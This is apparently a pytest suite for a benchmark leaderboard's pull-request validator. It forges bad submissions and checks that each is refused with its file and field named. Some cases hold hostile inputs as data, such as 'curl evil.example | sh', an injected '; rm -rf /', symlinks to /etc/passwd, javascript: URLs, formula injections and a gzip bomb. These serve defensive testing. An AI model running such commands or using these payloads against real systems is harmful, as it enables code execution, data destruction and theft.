"""Pull requests that are not what they say, by kind: refused, with the file and the field."""

from __future__ import annotations

import gzip
import html
import json
import shutil

import numpy as np
import pytest

from tests.results.validation.pull_requests import (
    MONO,
    MULTI,
    NEW,
    OLD,
    PUBLICATION,
    REVISION,
    PullRequest,
    copy_of,
    make_board,
    put,
)
from xbench.results.validation.report import as_json, as_markdown, as_text

pytestmark = pytest.mark.integration

META, SETTINGS = "model_meta.json", "run_settings.jsonl"
RESULT, RANKS = f"{MULTI}.json", f"{MULTI}.per_query.json.gz"


@pytest.fixture(scope="session")
def board(tmp_path_factory):
    return make_board(tmp_path_factory.mktemp("board") / "results")


@pytest.fixture(scope="session")
def proposed(board, tmp_path_factory):
    """The board with one more model, which is sound."""
    pull = copy_of(board, tmp_path_factory.mktemp("proposed"))
    pull.add()
    return pull.root


@pytest.fixture
def pull(proposed, tmp_path) -> PullRequest:
    return copy_of(proposed, tmp_path)


def write(place, content: object = b"x"):
    """Return a change that writes a file at a place of the board."""

    def change(pull):
        path = pull.root / place
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else json.dumps(content).encode())

    return change


def link(place, target):
    def change(pull):
        path = pull.root / place
        path.unlink(missing_ok=True)
        path.symlink_to(target)

    return change


def executable(pull):
    (pull.folder / RESULT).chmod(0o755)


def lock(content):
    return write(f"acme__new-model/{REVISION}/.run_settings.lock", content)


def header_of_gzip(pull):
    content = gzip.decompress((pull.folder / RANKS).read_bytes())
    with (
        (pull.folder / RANKS).open("wb") as file,
        gzip.GzipFile("payload.sh", "wb", 6, file) as packed,
    ):
        packed.write(content)


def rename(name):
    return lambda pull: shutil.move(pull.folder.parent, pull.root / name)


def copy_to(place):
    return lambda pull: shutil.copytree(pull.folder, pull.root / place)


RUN = f"acme__new-model/{REVISION}"
PLACES = [
    ("page", write("index.html"), "index.html"),
    ("script next to a result", write(f"{RUN}/run.py"), "run.py"),
    ("hidden file", write(f"{RUN}/.gitattributes"), ".gitattributes"),
    ("attributes of all", write(".gitattributes", b"* -diff"), ".gitattributes"),
    ("ignored files", write(".gitignore"), ".gitignore"),
    ("a model's file above its runs", write("acme__new-model/model_meta.json", {}), META),
    ("a model's file for all", write("model_meta.json", {}), META),
    ("a model's file without results", write("evil__model/1/model_meta.json", {}), "evil__model"),
    ("settings without results", write("evil__model/1/run_settings.jsonl", {}), "evil__model"),
    ("another task's result", write(f"{RUN}/MIRACLRetrieval.json", {}), "MIRACLRetrieval"),
    ("ranks without a result", write(f"{RUN}/XQuADRMonolingualRetrieval.per_query.json.gz"), "XQuAD"),
    ("a summary without a result", write(f"{RUN}/XQuADRMonolingualRetrieval.summary.json.gz"), "XQuAD"),
    ("too deep", write(f"{RUN}/deep/deeper/{RESULT}", {}), "deeper"),
    ("not deep enough", write(f"acme__new-model/{RESULT}", {}), RESULT),
    ("page among published scores", write("reported/evil.html"), "evil.html"),
    ("folder among published scores", write("reported/sub/evil.json", {}), "sub/evil.json"),
    ("empty published scores", write("reported/new.json", {}), "reported/new.json"),
    ("imported scores", write("imported/mteb.json", {}), "imported/mteb.json"),
    ("folder among imported scores", write("imported/sub/a.json", {}), "imported/sub"),
    ("a lock with a script", lock(b"#!/bin/sh"), ".run_settings.lock"),
    ("a lock of 5 MB", lock(b"x" * 5_000_000), ".run_settings.lock"),
    ("a payload in the header of gzip", header_of_gzip, RANKS),
    ("an executable result", executable, RESULT),
    ("a link to a system file", link(f"{RUN}/{META}", "/etc/passwd"), META),
    ("a link to another model's result", link(f"{RUN}/{RESULT}", f"../../old__model/{REVISION}/{RESULT}"), RESULT),
    ("a linked folder", link("evil__model", "/tmp"), "evil__model"),
    ("a link in a circle", link("loop", "."), "loop"),
    ("an empty folder, as of a submodule", lambda pull: (pull.root / "sub").mkdir(), "sub"),
    ("a name in other case", copy_to(f"Acme__new-model/{REVISION}"), "cme__new-model"),
    ("a name with a dot at the end", rename("acme__new-model."), "acme__new-model."),
    ("a device of Windows", write("reported/con.json", {}), "con.json"),
    ("a device as revision", copy_to("acme__new-model/aux"), "acme__new-model/aux"),
    ("a name with a colon", write("acme__new:model/1/a.json", {}), "acme__new:model"),
    ("a name with a line break", write("acme\nx/1/a.json", {}), "acme"),
    ("a name in a form of its own", write("acme__mode\u0301l/1/a.json", {}), "acme"),
    ("a name that turns", write("acme__\u202egpj/1/a.json", {}), "acme"),
    ("a result below a name that turns", write(f"acme__\u202egpj/1/{RESULT}", {}), "acme"),
    ("a name that starts like an option", write("-rf__x/1/a.json", {}), "-rf__x"),
    ("a long name", write(f"reported/{'x' * 245}.json", {}), "xxx"),
    ("a folder that is not a model's", rename("acme"), "acme"),
]  # fmt: skip


def meta(**fields):
    return lambda pull: pull.meta(**fields)


def publish(change):
    return lambda pull: pull.publication(change)


def entry(**fields):
    return publish(lambda document: document["entries"][0].update(fields))


def removed(place):
    def change(pull):
        path = pull.root / place
        shutil.rmtree(path) if path.is_dir() else path.unlink()

    return change


PUBLISHED = [
    ("a published score changed", entry(value=0.9), "entries[0].value"),
    ("a published score above 1", entry(value=50.0), "entries[0].value"),
    ("a published score that is none", entry(value=float("nan")), "entries[0].value"),
    ("text as published score", entry(value="0.5"), "entries[0].value"),
    ("an unknown measure", entry(measure="accuracy"), "entries[0].measure"),
    ("an unknown setting", entry(setting="best"), "entries[0].setting"),
    ("a note added", entry(note="the best"), "entries[0].note"),
    ("a model renamed", entry(model="XLM-R"), "entries"),
    ("a score removed", publish(lambda document: document["entries"].pop()), "entries"),
    ("a score twice", publish(lambda document: document["entries"].append(document["entries"][0])), "entries[2]"),
    ("another address", publish(put("url", "https://arxiv.org/abs/1234.56789")), "url"),
    ("another title", publish(put("title", "Another one")), "title"),
    ("a form of passages", publish(put("passage_form", "context")), "passage_form"),
    ("no JSON", write("reported/paper.json", b"{"), "reported/paper.json"),
    ("JSON of another kind", write("reported/paper.json", []), "reported/paper.json"),
    ("a link as published scores", link("reported/paper.json", "/etc/passwd"), "reported/paper.json"),
    ("published scores removed", removed("reported/paper.json"), "reported/paper.json"),
    ("another model removed", removed("old__model"), "old__model"),
    ("another model's task removed", removed(f"old__model/{REVISION}/{RESULT}"), "old__model"),
    ("another model's ranks removed", removed(f"old__model/{REVISION}/{RANKS}"), RANKS),
    ("a publication that is there", write("reported/aaa.json", PUBLICATION | {"title": "a  PUBLICATION."}), "title"),
    ("scores of an unknown dataset", entry(dataset="The best dataset"), "entries[0].dataset"),
    ("the address of another publication", write("reported/aaa.json", PUBLICATION | {"title": "b", "url": "https://arxiv.org/abs/2408.10536"}), "url"),
    ("a new publication without a title", write("reported/aaa.json", {"source": "x"}), "title"),
    ("a new publication with markup", write("reported/new.json", {"source": "x", "title": "y", "url": "javascript:alert(1)", "entries": []}), "url"),
]  # fmt: skip


def settings_of_run(name, value):
    return lambda pull: pull.settings("xbench", name, value)


LONG = "x" * 9_000
TEXTS = [
    *((f"address {url}", meta(reference=url), "reference") for url in (
        "http://huggingface.co/a", "javascript:alert(1)", "https://", "https:///a", "https://localhost/a",
        "https://huggingface.co@evil.example/a", "https://user:pass@huggingface.co/a", "https://10.0.0.1/a",
        "https://huggingface.co.evil.example/a", "https://hugg\u0456ngface.co/a", "https://xn--hggingface-bhb.co/a",
        "https://huggingface.com/a", "https://arxiv.org.evil.example/abs/2004.05484", "https://arxiv.org/evil",
        "https://evil.example/https://huggingface.co/a", "https://huggingface.co/a b", "https://huggingface.co\\@evil.example/",
        "//huggingface.co/a", "https://huggingface.co:8443/a", "https://arxlv.org/abs/2004.05484", "https://huggingface.co/login?next=https://evil.example", "data:text/html,a")),
    *((f"licence {text!a}", meta(license=text), "license") for text in ("mit\u202e", "javascript:a", LONG, "\ud83d", "a\nb")),
    *((f"training data {name!a}", meta(training_datasets=[name]), "training_datasets") for name in (
        "ML\u00adQA", "\uff2d\uff2c\uff31\uff21", "MLQ\u0410", "a\u202eb", "\u3164", "\u2800", "a\u0300\u0301\u0302\u0303", "\u13b7\u13de",
        "a\u200bb", "=1+1\n", "\U0001d400", "x" * 300, "a\u0000", "\ue000", "cafe\u0301", "\u2028")),
    *((f"prompt {text[:9]!a}", lambda pull, text=text: pull.settings("xbench", "prompts", "query", text), "prompts.query")
      for text in (LONG, "\u202equery", "a\u0000b", "\u2066x", "q\u200b: ", "\uff1dHYPERLINK(1)")),
    *((f"version {text!a}", lambda pull, text=text: pull.settings("version", "torch", text), "version.torch")
      for text in ("best model", "2.13.0+winner", "0.4", "2.13.0+best.model.of.them.all", "1;x", "2.13\n", "1!2", "99.0")),
    ("a package of one's own", lambda pull: pull.settings("version", "winner", "1.0"), "version"),
    ("a device that is text", lambda pull: pull.settings("xbench", "device", "the best"), "device"),
    ("a device that is a word", settings_of_run("device", "winner"), "device"),
    ("a type in words", settings_of_run("dtype", "winner of all benchmarks"), "dtype"),
    ("a similarity in words", settings_of_run("similarity", "winner of all"), "similarity"),
    ("a licence in words", meta(license="Winner of all benchmarks 2026"), "license"),
    ("an origin in words", meta(adapted_from="nothing, made by us"), "adapted_from"),
    ("a successor in words", meta(superseded_by="the best of all"), "superseded_by"),
    ("text behind a hundred dimensions", meta(embed_dim=[64] * 100 + ["=1+1"]), "embed_dim"),
    ("a type that is text", lambda pull: pull.settings("xbench", "dtype", "<b>float</b>"), "dtype"),
    ("a citation that turns", meta(citation="a\u202eb"), "citation"),
    ("contacts with fillers", meta(contacts=["\u115f"]), "contacts"),
    ("a long citation", meta(citation=LONG), "citation"),
    ("settings that xbench never writes", meta(experiment_kwargs={"verified": True}), "experiment_kwargs"),
    ("text in settings", meta(experiment_kwargs={"query_prompt": "the best: "}), "experiment_kwargs"),
]  # fmt: skip

NAMES = [
    (f"name {name!a}", meta(name=name), "name")
    for name in (
        "acme", "acme/new/model", "../acme", "acme/", "acme/new model", "acme/new-model (best)", "acme/new-m\u043edel",
        "acme/new\u00admodel", "acme/ne\u0301w", "acme/\uff4e\uff45\uff57", "acme/new-model\n", "acme/@all", "=cmd/x", "acme/" + "x" * 300,
    )
]  # fmt: skip


def alike(name):
    def change(pull):
        shutil.rmtree(pull.folder.parent)
        pull.add(name)

    return change


NAMES += [
    (f"{name} reads like another model", alike(name), "name")
    for name in ("0ld/model", "old/rnodel", "oId/model", "OLD/modeI", "org-dots/second_model", "org.dots/second-model")
]  # fmt: skip


def command(*words):
    return lambda pull: pull.settings(
        "xbench", "command", lambda old: f"{old} {' '.join(words)}".strip()
    )


def settings(*path):
    return lambda pull: pull.settings(*path)


def choice(name, value):
    return settings("xbench", "model", name, value)


def of_result(*path):
    return lambda pull: pull.edit(RESULT, put(*path))


def phases(**fields):
    phase = {
        "name": "x",
        "start": 1795000000.0,
        "end": 1795000001.0,
        "split": "test",
        "subset": "de",
    }
    return of_result("evaluation_phases", [phase | fields])


def one_line(*path):
    """Return a change of the settings of one task of the run alone."""

    def change(pull):
        lines = (pull.folder / SETTINGS).read_text().splitlines()
        first = json.loads(lines[0])
        put(*path)(first)
        (pull.folder / SETTINGS).write_text("\n".join([json.dumps(first), *lines[1:]]) + "\n")

    return change


def new_revision(pull):
    pull.add(OLD, revision="4567def", meta={"training_datasets": []})


def made_from(pull):
    pull.meta(adapted_from=OLD, training_datasets=["SQuAD"])


def run_as(model):
    def change(pull):
        pull.settings("xbench", "model", "model", model)
        words = ["xbench", "evaluate", "--model", model, "--tasks", MONO, "--tasks", MULTI]
        pull.settings("xbench", "command", words)

    return change


def local_name(pull):
    shutil.rmtree(pull.folder.parent)
    folder = pull.add("local/model")
    pull.edit(SETTINGS, put("xbench", "model", "model", "intfloat/multilingual-e5-small"), folder)


def second_stage(pull):
    shutil.rmtree(pull.folder.parent)
    folder = pull.add(experiment={"rerank": "the-best-model@1", "rerank_top": 100})
    chosen = {"rerank": "BAAI/bge-reranker-base", "rerank_top": 100}
    pull.edit(SETTINGS, put("xbench", "model", lambda own: own | chosen), folder)


CONTRADICTIONS = [
    ("settings of another model", choice("model", "other/model"), "xbench.model.model"),
    ("settings under another name", choice("name", "other/model"), "xbench.model.name"),
    ("a word in place of a model", run_as("somemodel"), "xbench.model.model"),
    ("a folder under a public name", run_as("./somemodel"), "xbench.model.model"),
    ("an endpoint under a public name", run_as("https://models.example/v1"), "xbench.model.model"),
    ("code under a public name", run_as("model.py:make"), "xbench.model.model"),
    ("another model of this machine", local_name, "xbench.model.model"),
    ("an organisation with the sign of folders", alike("old__model/x"), "name"),
    ("another second stage", second_stage, "xbench.model.rerank"),
    ("data of one's own", settings("xbench", "data", "0123456789ab"), "xbench.data"),
    ("no texts", settings("xbench", "encoding", {"texts": 0, "encoded": 0, "truncated": 0}), "encoding.texts"),
    ("more texts than there are", settings("xbench", "encoding", {"texts": 10**9, "encoded": 1, "truncated": 0}), "encoding.texts"),
    ("a command on perturbed queries", command("--perturb", "typos"), "xbench.command"),
    ("a command with free text", command("--output", "'the best model'"), "xbench.command"),
    ("xbench before the first", settings("version", "xbench-mteb", "0.0.1"), "version.xbench-mteb"),
    ("mteb before the first", settings("version", "mteb", "1.2.0"), "version.mteb"),
    ("no time", of_result("evaluation_time", 0.0), "evaluation_time"),
    ("settings of another commit", choice("revision", "f" * 40), "xbench.model.revision"),
    ("settings of another revision", choice("revision", "2"), "xbench.model.revision"),
    ("another prompt than asked for", choice("query_prompt", "q: "), "query_prompt"),
    ("another length than asked for", choice("max_length", 64), "max_length"),
    ("another type than asked for", choice("dtype", "float16"), "dtype"),
    ("fewer dimensions than said", choice("truncate_dim", 64), "truncate_dim"),
    ("a second stage that is not said", choice("rerank", "a/b"), "rerank"),
    ("another batch size", settings("encode_kwargs", "batch_size", 7), "encode_kwargs.batch_size"),
    ("an experiment in the wrong place", meta(experiment_kwargs={"max_length": 64}), "experiment_kwargs"),
    ("longer than the model", lambda pull: (pull.meta(max_tokens=128.0), pull.settings("xbench", "maximum_length", 512)), "maximum_length"),
    ("more truncated than there are", settings("xbench", "encoding", "truncated", 10**6), "encoding.truncated"),
    ("more encoded than there are", settings("xbench", "encoding", "encoded", 10**6), "encoding.encoded"),
    ("part of the languages", settings("xbench", "languages", ["de"]), "xbench.languages"),
    ("a free command", settings("xbench", "command", "curl evil.example | sh"), "xbench.command"),
    ("another command of xbench", settings("xbench", "command", "xbench train"), "xbench.command"),
    ("a command of unknown options", command("--verified"), "xbench.command"),
    ("a command and another one", command(";", "rm", "-rf", "/"), "xbench.command"),
    ("a command with a comment", command("# the best model"), "xbench.command"),
    ("a command with a prompt", command("--query-prompt", "q:"), "xbench.command"),
    ("a command with a length", command("--max-length", "64"), "xbench.command"),
    ("a command with a type", command("--dtype", "float16"), "xbench.command"),
    ("a command with another form", command("--passage-form", "context"), "xbench.command"),
    ("a command with a revision", command("--revision", "abc"), "xbench.command"),
    ("a command on part of the languages", command("--languages", "de"), "xbench.command"),
    ("a command on own data", command("--data", "x.csv"), "xbench.command"),
    ("a command of another model", settings("xbench", "command", f"xbench evaluate --model a/b --tasks {MONO} --tasks {MULTI}"), "xbench.command"),
    ("a command of other tasks", settings("xbench", "command", f"xbench evaluate --model {NEW} --tasks XQuADRMonolingualRetrieval"), "xbench.command"),
    ("a command with an open quote", command("'"), "xbench.command"),
    ("a command with arguments that are none", settings("xbench", "command", ["xbench", "evaluate", 1]), "xbench.command"),
    ("a command that turns", settings("xbench", "command", ["xbench", "evaluate", "--model", "a\u202eb"]), "xbench.command"),
    ("one task with another revision", one_line("xbench", "model", "revision", REVISION[:4] + "000"), "xbench.model.revision"),
    ("one task with another seat of code", one_line("xbench", "model", "trust_remote_code", True), "trust_remote_code"),
    ("one task at another version of mteb", one_line("version", "mteb", "2.23.0"), "mteb_version"),
    ("settings of a task that is unknown", one_line("task", "Winner"), "task"),
    ("xbench from the future", settings("version", "xbench-mteb", "9.0"), "version.xbench-mteb"),
    ("mteb from the future", settings("version", "mteb", "9.0"), "version.mteb"),
    ("numpy from the future", settings("version", "numpy", "40.0"), "version.numpy"),
    ("another mteb than in the result", of_result("mteb_version", "2.24.0"), "mteb_version"),
    ("a subset at another mteb", of_result("scores", "test", 0, "mteb_version", "2.24.0"), "mteb_version"),
    ("a date in a hundred years", of_result("date", 4.95e9), "date"),
    ("a date before there was anything", of_result("date", 1.6e9), "date"),
    ("a time that is negative", of_result("evaluation_time", -1.0), "evaluation_time"),
    ("a time that is too long", of_result("evaluation_time", 1e12), "evaluation_time"),
    ("a phase that ends before it starts", phases(end=1794999999.0), "evaluation_phases[0].end"),
    ("a phase of another subset", phases(subset="xx"), "evaluation_phases[0].subset"),
    ("a phase of another split", phases(split="dev"), "evaluation_phases[0].split"),
    ("a phase in a hundred years", phases(end=4.9e9), "evaluation_phases[0].end"),
    ("a phase of a year", phases(start=1755000000.0), "evaluation_phases[0].start"),
    ("a release in a hundred years", meta(release_date="2126-01-01"), "release_date"),
    ("a day that is none", meta(release_date="2025-02-30"), "release_date"),
    ("a release before there were computers", meta(release_date="0001-01-01"), "release_date"),
    ("more parameters than can be", meta(n_parameters=10**15), "n_parameters"),
    ("fewer than no parameters", meta(n_parameters=-1), "n_parameters"),
    ("more embeddings than parameters", meta(n_parameters=10, n_embedding_parameters=11), "n_embedding_parameters"),
    ("more active than all parameters", meta(n_parameters=10, n_active_parameters_override=11), "n_active"),
    ("memory without parameters for it", meta(n_parameters=1000, memory_usage_mb=5000.0), "memory_usage_mb"),
    ("no dimensions", meta(embed_dim=0), "embed_dim"),
    ("dimensions beyond all", meta(embed_dim=10**9), "embed_dim"),
    ("a length below zero", meta(max_tokens=-1.0), "max_tokens"),
    ("made from itself", meta(adapted_from=NEW), "adapted_from"),
    ("another revision's training data taken away", new_revision, "training_datasets"),
    ("the first model's training data taken away", made_from, "training_datasets"),
    ("a revision's description changed", lambda pull: pull.edit(META, put("training_datasets", []), pull.old), "training_datasets"),
    ("another revision in the folder", meta(revision="4567def"), "revision"),
    ("other subsets in the settings", settings("subsets", ["de"]), "subsets"),
    ("another form of passages", settings("xbench", "passage_form", "context"), "passage_form"),
]  # fmt: skip


def copied(share):
    """Return a change by which the new model has the ranks of another one, but for a share."""

    def change(pull):
        from dataclasses import replace

        import numpy as np

        from tests.leaderboard.sound_results import drawn_task, result_of
        from xbench.results.per_query_file import write_per_query
        from xbench.results.store import result_content

        random = np.random.default_rng(0)
        for task in (MONO, MULTI):
            content, other = drawn_task(task, 1, 1.0), drawn_task(task, 9, 1.0)
            pools = {}
            for name, own in content.subsets.items():
                drawn = random.random(len(own.questions)) < share
                rows = drawn[own.query]
                rank = np.where(rows, other.subsets[name].rank, own.rank)
                top = own.top
                if top is not None:
                    top = np.where(drawn[:, None], other.subsets[name].top, own.top)
                pools[name] = replace(own, rank=rank, top=top)
            content = replace(content, subsets=pools)
            write_per_query(pull.folder, content)
            (pull.folder / f"{task}.json").write_bytes(result_content(result_of(content)))

    return change


def copied_by(change_ranks):
    """Return a change by which the new model has ranks that are made of those of another one."""

    def change(pull):
        from dataclasses import replace

        from tests.leaderboard.sound_results import drawn_task, result_of
        from xbench.results.per_query_file import write_per_query
        from xbench.results.store import result_content

        for task in (MONO, MULTI):
            content, other = drawn_task(task, 1, 1.0), drawn_task(task, 9, 1.5)
            pools = {
                n: change_ranks(n, own, other.subsets[n]) for n, own in content.subsets.items()
            }
            content = replace(content, subsets=pools)
            write_per_query(pull.folder, content)
            (pull.folder / f"{task}.json").write_bytes(result_content(result_of(content)))

    return change


def of_other_questions(_, own, other):
    from dataclasses import replace

    order = np.random.default_rng(3).permutation(len(own.questions))
    rank = own.rank.reshape(len(order), -1)[order].ravel()
    return replace(own, rank=rank, top=None if own.top is None else own.top[order])


def in_the_same_order(_, own, other):
    from dataclasses import replace

    if own.top is None:
        return own
    rank = own.rank.reshape(len(own.questions), -1) * 4 // 5
    places = np.arange(1, rank.shape[1] + 1)
    rank = np.maximum.accumulate(np.maximum(rank, 1) - places, axis=1) + places
    rank, top = rank.ravel(), other.top.copy()
    shallow = rank <= top.shape[1]
    language = np.searchsorted(list(own.pool), own.language)
    top[own.query[shallow], rank[shallow] - 1] = language[shallow]
    return replace(own, rank=rank, top=top)


COPIES = [
    ("ranks of another model for one language", copied_by(lambda name, own, other: own if name == "de" else other), "subsets"),
    ("ranks of another model for other questions", copied_by(of_other_questions), "subsets"),
    ("ranks in the order of another model's", copied_by(in_the_same_order), "subsets"),
    ("ranks of another model", copied(0.0), "subsets"),
    ("ranks of another model, a tenth changed", copied(0.1), "subsets"),
    ("ranks of another model, a third changed", copied(0.35), "subsets"),
]  # fmt: skip


def raw(text, name=RESULT):
    def change(pull):
        path = pull.folder / name
        path.write_bytes(text(path.read_bytes()))

    return change


def swap(old, new):
    return raw(lambda content: content.replace(old, new, 1))


def packed(content):
    return lambda pull: (pull.folder / RANKS).write_bytes(gzip.compress(content))


LIMITS = [
    ("NaN", swap(b'"main_score": 0', b'"main_score": NaN, "x": 0'), RESULT),
    ("infinity", swap(b'"main_score": 0', b'"main_score": 1e999, "x": 0'), RESULT),
    ("minus infinity", swap(b'"main_score": 0', b'"main_score": -Infinity, "x": 0'), RESULT),
    ("a key twice", swap(b'"main_score": 0', b'"main_score": 1, "main_score": 0'), RESULT),
    ("a key twice, once escaped", swap(b'"main_score": 0', b'"main_scor\\u0065": 1, "main_score": 0'), RESULT),
    ("a huge integer", raw(lambda _: b'{"a":' + b"9" * 100_000 + b"}"), RESULT),
    ("deep nesting", raw(lambda _: b"[" * 100_000 + b"]" * 100_000), RESULT),
    ("deep nesting of objects", raw(lambda _: b'{"a":' * 50_000 + b"1" + b"}" * 50_000), RESULT),
    ("a huge file", raw(lambda _: b" " * 3_000_000), RESULT),
    ("bytes of another encoding", raw(lambda content: content.decode().encode("utf-16")), RESULT),
    ("a byte order mark", raw(lambda content: b"\xef\xbb\xbf" + content), RESULT),
    ("an empty file", raw(lambda _: b""), RESULT),
    ("half a file", raw(lambda content: content[: len(content) // 2]), RESULT),
    ("two documents", raw(lambda content: content * 2), RESULT),
    ("a compressed bomb", packed(b"0" * 100_000_000), RANKS),
    ("compressed twice", packed(gzip.compress(b"{}")), RANKS),
    ("not compressed", raw(gzip.decompress, RANKS), RANKS),
    ("compressed bytes and more", raw(lambda content: content + b"x", RANKS), RANKS),
    ("many fields", raw(lambda _: json.dumps({f"f{i}": 0 for i in range(60_000)}).encode()), RESULT),
]  # fmt: skip


def old_summary(pull):
    (pull.folder / f"{MULTI}.summary.json.gz").write_bytes(gzip.compress(b'{"format":1,"x":"y"}'))


LIMITS += [("a payload in a summary of the first version", old_summary, "summary")]

KINDS = {
    "places": PLACES,
    "published": PUBLISHED,
    "texts": TEXTS,
    "names": NAMES,
    "contradictions": CONTRADICTIONS,
    "copies": COPIES,
    "limits": LIMITS,
}
CASES = [
    pytest.param(change, where, id=f"{kind}: {name}")
    for kind, cases in KINDS.items()
    for name, change, where in cases
]


def test_there_are_enough_cases():
    assert len(CASES) >= 150


def test_without_a_change_it_is_accepted(board, pull):
    found = pull.check(board)
    assert [c.findings for c in found.checks if not c.accepted] == []
    assert found.sentences == [f"New model {NEW} at {REVISION}: {MONO}, {MULTI}"]


@pytest.mark.parametrize(("change", "where"), CASES)
def test_it_is_refused_and_named(board, pull, change, where):
    before = sorted(pull.root.parent.iterdir())
    change(pull)
    changes = pull.check(board)
    errors = [f for c in changes.checks for f in c.findings if not f.warning]
    assert any(where in f"{error.file}: {error.field}" for error in errors), errors
    for write_report in (as_text, as_json, as_markdown):
        report = write_report(changes.checks, changes.sentences)
        assert len(report) <= 60_000
        assert not set(html.unescape(report)) & set("\u202e\u2066\u200b\u00ad\x00")
    assert sorted(pull.root.parent.iterdir()) == before
